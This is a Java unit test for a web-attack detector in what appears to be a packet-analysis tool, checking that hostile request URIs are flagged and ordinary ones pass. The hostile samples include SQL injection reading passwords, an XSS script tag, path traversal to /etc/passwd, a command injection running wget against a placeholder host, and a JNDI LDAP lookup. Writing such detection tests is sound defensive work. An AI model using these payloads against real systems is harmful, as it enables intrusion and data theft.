package io.aegispcap.analysis.detection.content;

import static org.assertj.core.api.Assertions.assertThat;

import io.aegispcap.analysis.detection.Detector;
import io.aegispcap.analysis.detection.DetectorContract;
import io.aegispcap.analysis.detection.Said;
import io.aegispcap.analysis.detection.Scene;
import org.junit.jupiter.api.Test;

/// See [DetectorContract] for what it also shows.
class WebAttackTests extends DetectorContract {
  private static final String CLIENT = "10.0.0.5";
  private static final String SERVER = "198.51.100.7";

  @Override
  protected Detector detector() {
    return new WebAttack();
  }

  @Override
  protected Scene hostile() {
    return requested("/item.php?id=1%20UNION%20SELECT%20password%20FROM%20users");
  }

  @Override
  protected Scene harmless() {
    return requested("/search?q=union+square+selection&page=2#top");
  }

  private static Scene requested(String uri) {
    Scene scene = new Scene();
    return scene.said(CLIENT, SERVER, 80, Said.get(scene.now(), "example.org", uri, "browser"));
  }

  @Test
  void knowsEachKind() {
    for (String uri :
        new String[] {
          "/a?x=%3Cscript%3Ealert(1)%3C/script%3E",
          "/a?f=..%2f..%2f..%2fetc%2fpasswd",
          "/a?c=1;wget%20http://x/y",
          "/a?u=%24%7Bjndi:ldap://x/y%7D",
          "/a?id=1%27%20or%20%271%27=%271"
        }) {
      assertThat(requested(uri).shownTo(detector())).as(uri).hasSize(1);
    }
  }

  @Test
  void takesUsualTargetsForHarmless() {
    for (String uri :
        new String[] {
          "/",
          "/index.html?lang=en&x=%20",
          "/or/1/2",
          "/shop?name=o%27neil&sort=desc",
          "*",
          "/a;v=1/b"
        }) {
      assertThat(requested(uri).shownTo(detector())).as(uri).isEmpty();
    }
  }
}
